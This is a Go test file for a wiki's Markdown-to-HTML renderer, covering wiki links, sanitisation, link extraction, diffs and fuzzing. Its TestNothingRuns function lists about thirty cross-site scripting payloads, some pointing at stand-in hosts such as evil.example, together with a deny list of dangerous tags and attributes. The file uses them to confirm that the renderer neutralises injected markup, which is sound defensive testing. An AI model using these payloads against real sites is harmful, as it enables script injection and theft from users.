package model_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/gangplank-web/gangplank/examples/wiki/model"
)

type links struct{}

func (links) Page(title string) (string, bool) {
	return "/pages/" + strings.ReplaceAll(title, " ", "%20"), title != "Nowhere"
}
func (links) File(name string) string { return "/files/" + name }

func TestHTML(t *testing.T) {
	for _, test := range []struct{ desc, text, want string }{
		{"a link", "See [[Front Page]].", `<p>See <a href="/pages/Front%20Page">Front Page</a>.</p>`},
		{"a label", "[[Front_Page|home]]", `<p><a href="/pages/Front%20Page">home</a></p>`},
		{"a part", "[[Front Page#How to start]]", `<p><a href="/pages/Front%20Page#how-to-start">Front Page#How to start</a></p>`},
		{"a part of the same page", "[[#Notes|notes]]", `<p><a href="#notes">notes</a></p>`},
		{"a page that is missing", "[[Nowhere]]", `<p><a href="/pages/Nowhere" class="missing">Nowhere</a></p>`},
		{"an image", "![[plan.png|the plan]]", `<p><img src="/files/plan.png" alt="the plan"></p>`},
		{"a file", "![[plan.pdf]]", `<p><a href="/files/plan.pdf">plan.pdf</a></p>`},
		{"a category shows nothing", "a[[Category:Ships]]b", `<p>ab</p>`},
		{"a link to a category", "[[Category:Ships|ships]]", `<p><a href="/pages/Category:Ships">ships</a></p>`},
		{"no link in code", "`[[Front Page]]`", `<p><code>[[Front Page]]</code></p>`},
		{"not closed", "[[Front Page", `<p>[[Front Page</p>`},
		{"empty", "[[]] [[|x]]", `<p>[[]] [[|x]]</p>`},
		{"Markdown's own link", "[x](/y)", `<p><a href="/y">x</a></p>`},
		{"an outside link", "<https://example.com>", `<p><a href="https://example.com" rel="nofollow noreferrer">https://example.com</a></p>`},
		{"a heading", "# How to start", `<h1 id="how-to-start">How to start</h1>`},
		{"a task", "- [x] done", "<ul>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> done</li>\n</ul>"},
		{"code", "```go\nx\n```", "<pre><code class=\"language-go\">x\n</code></pre>"},
		{"markup in a label", `[[A|<img src=x onerror=alert(1)>]]`, `<p><a href="/pages/A">&lt;img src=x onerror=alert(1)&gt;</a></p>`},
		{"markup in a title", `[["onmouseover=alert(1) x="]]`, `<p><a href="/pages/%22onmouseover=alert%281%29%20x=%22">&#34;onmouseover=alert(1) x=&#34;</a></p>`},
	} {
		if got := strings.TrimSpace(model.HTML(test.text, links{})); got != test.want {
			t.Errorf("%s: got\n%s\nwant\n%s", test.desc, got, test.want)
		}
	}
}

// What has run in one wiki or another.
func TestNothingRuns(t *testing.T) {
	for _, text := range []string{
		"<script>alert(1)</script>", "<ScRiPt src=//evil.example>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
		"<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
		"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))",
		"[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "<style>@import '//evil'</style>", "<p style=\"background:url(javascript:1)\">",
		"<form action=//evil><input name=password>", "<base href=//evil>", "<meta http-equiv=refresh content=0>", "<object data=x>",
		"<embed src=x>", "<math><mi xlink:href=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"![x](x\"onerror=\"alert(1))", "[a]: javascript:alert(1)\n\n[a]", "<!--><img src=x onerror=alert(1)>-->", "<a id=csrf name=csrf>",
		"[[x|</a><script>alert(1)</script>]]", "![[x.png|\" onerror=alert(1)]]", "<xmp><img src=x onerror=alert(1)></xmp>",
		"<textarea><script>alert(1)</script></textarea>", "<button formaction=javascript:alert(1)>", "<link rel=stylesheet href=//evil>",
	} {
		out := strings.ToLower(model.HTML(text, links{}))
		for _, bad := range []string{"<script", "<style", "<iframe", "<form", "<object", "<embed", "<svg", "<math", "<base", "<meta", "<link", "<button", "<textarea",
			"href=\"javascript", "href=\"vbscript", "href=\"data", " style=", " onerror=\"", " onload=\"", " ontoggle=\""} {
			if strings.Contains(out, bad) {
				t.Errorf("%s: %s in\n%s", text, bad, out)
			}
		}
	}
}

func TestLinked(t *testing.T) {
	text := "[[B]] and [[A|x]], [[B#part]], `[[C]]`, ![[file.png]], [[#here]]\n\n    [[D]]\n\n[[Category:Ships]]"
	titles := model.Linked(text)
	if want := []string{"B", "A", "Category:Ships"}; !slices.Equal(titles, want) {
		t.Errorf("got %q, want %q", titles, want)
	}
	if got := model.Categories(titles); !slices.Equal(got, []string{"Ships"}) {
		t.Errorf("got categories %q", got)
	}
}

func TestDiff(t *testing.T) {
	hunks, err := model.Diff("a\nb\nc\nd\ne\nf\ng\nh\n", "a\nB\nc\nd\ne\nf\ng\nh\ni")
	if err != nil {
		t.Fatal(err)
	}
	var got strings.Builder
	for _, h := range hunks {
		got.WriteString("@")
		for _, l := range h.Lines {
			got.WriteString(map[string]string{"same": " ", "removed": "-", "added": "+"}[l.Kind] + l.Text)
		}
	}
	if want := "@ a-b+B c d e f g h+i"; got.String() != want {
		t.Errorf("got %q, want %q", got.String(), want)
	}
	for _, same := range []string{"", "a", "a\n"} {
		if hunks, err := model.Diff(same, same); err != nil || len(hunks) != 0 {
			t.Errorf("%q with itself: %v, %v", same, hunks, err)
		}
	}
}

func FuzzHTML(f *testing.F) {
	f.Add("[[a|b]] ![[c.png]] # x <b>y</b>")
	f.Fuzz(func(t *testing.T, text string) {
		if out := strings.ToLower(model.HTML(text, links{})); strings.Contains(out, "<script") || strings.Contains(out, "href=\"javascript") {
			t.Errorf("%q gives %s", text, out)
		}
		model.Linked(text)
	})
}
